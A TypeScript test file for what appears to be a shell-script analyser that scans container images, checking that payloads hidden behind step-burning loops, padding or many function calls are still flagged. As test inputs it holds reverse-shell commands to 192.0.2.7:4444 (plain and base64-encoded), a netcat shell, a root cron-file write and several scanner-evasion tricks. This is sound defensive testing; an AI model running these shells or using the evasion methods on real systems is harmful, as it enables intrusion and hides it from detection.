import { describe, expect, it } from 'vitest';
import { reportOf } from '../../../testing/scene.ts';
import { readingBudget } from '../../budget.ts';
import { render } from '../../value.ts';
import { shell } from './shell.ts';

/** A function called with 3,000 different arguments and then with one more. */
function calls(body: string): {
  readonly shown: readonly string[];
  readonly used: number;
  readonly truncated: boolean;
} {
  const names = Array.from({ length: 3_000 }, (_, index) => `n${index}`).join(' ');
  const text = `f() {\n${body}\n}\nfor n in ${names}; do f $n; done\nf last-one\n`;
  const steps = 200_000;
  const budget = readingBudget({ steps });
  const reading = shell.read({ text, args: [], env: new Map(), readFile: () => undefined, budget });
  const shown = reading.commands.map((command) => command.argv.map(render).join(' '));
  return { shown, used: steps - budget.steps, truncated: reading.truncated };
}

const work = Array.from({ length: 40 }, (_, index) => `  cp "/from/$1" "/to/${index}"`).join('\n');

describe('functions that used up their share of steps', () => {
  it('are read once more with any arguments, and the reading comes to its end but says what it left out', () => {
    const { shown, used, truncated } = calls(work);
    expect(truncated).toBe(true);
    expect(used).toBeLessThan(200_000);
    expect(shown.some((line) => line.includes('n0'))).toBe(true);
    expect(shown.some((line) => /^cp \/from\/‹/.test(line))).toBe(true);
  });

  it.each(['"$@"', '$1', 'eval "$1"'])('are still called each time when they run what they are given: %s', (run) => {
    const { shown, used } = calls(`${run}\n${Array.from({ length: 2 }, () => '  true "$1"').join('\n')}`);
    expect(used).toBeGreaterThan(200_000 * 0.04);
    expect(shown.some((line) => line.includes('last-one'))).toBe(true);
  });
});

describe('a payload in the last of many calls of a function that burns steps', () => {
  const digits = '1 2 3 4 5 6 7 8 9 10';
  const burn = `for i in ${digits}; do for j in ${digits}; do for k in ${digits}; do x=$i$j$k; done; done; done`;
  const code = Buffer.from('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1').toString('base64');
  const calls = Array.from({ length: 40 }, (_, at) => `f ${Buffer.from(`echo ${at}`).toString('base64')}`).join('\n');

  it.each([
    ['piped into a shell', `f() { ${burn}; echo "$1" | base64 -d | sh; }\n${calls}\nf ${code}`],
    ['evaluated', `f() { ${burn}; eval "$(echo $1 | base64 -d)"; }\n${calls}\nf ${code}`],
    ['a here-string', `f() { ${burn}; bash <<< "$(base64 -d <<< $1)"; }\n${calls}\nf ${code}`],
    ['written and run', `f() { ${burn}; echo "$1" | base64 -d > /tmp/x; }\n${calls}\nf ${code}\nsh /tmp/x`],
    ['in a cron table', `f() { ${burn}; echo "$1" >> /etc/cron.d/x; }\n${calls}\nf '* * * * * root /x'`],
  ])('never leaves the image clear: %s', async (_, body) => {
    const content = `#!/bin/bash\n${body}\n`;
    const { verdict } = await reportOf({ entrypoint: ['/run.sh'], files: { '/run.sh': { content, mode: 0o755 } } });
    expect(['malicious', 'suspicious', 'incomplete']).toContain(verdict);
  });

  it.each([
    ['run as it is', 'f() { sh -c "$1"; }'],
    ['written and run', 'f() { echo "$1" > /tmp/y; sh /tmp/y; }'],
  ])('is seen behind thousands of characters that are the same each time: %s', async (_, carrier) => {
    const padding = `: ${'a'.repeat(3_000)}; `;
    const same = Array.from({ length: 6 }, () => `f '${padding}true'`).join('; ');
    const content = `#!/bin/bash\n${carrier}\nm() { ${same}; f '${padding}bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'; }\nm\n`;
    const { verdict } = await reportOf({ entrypoint: ['/run.sh'], files: { '/run.sh': { content, mode: 0o755 } } });
    expect(verdict).toBe('malicious');
  });

  it('and in the last of many runs of one script', async () => {
    const runs = Array.from({ length: 40 }, (_, at) => `/own.sh echo ${at}`).join('\n');
    const { verdict } = await reportOf({
      entrypoint: ['/run.sh'],
      files: {
        '/run.sh': { content: `#!/bin/sh\n${runs}\n/own.sh nc 192.0.2.7 4444 -e /bin/sh\n`, mode: 0o755 },
        '/own.sh': { content: '#!/bin/sh\n"$@"\n', mode: 0o755 },
      },
    });
    expect(['malicious', 'suspicious', 'incomplete']).toContain(verdict);
  });
});
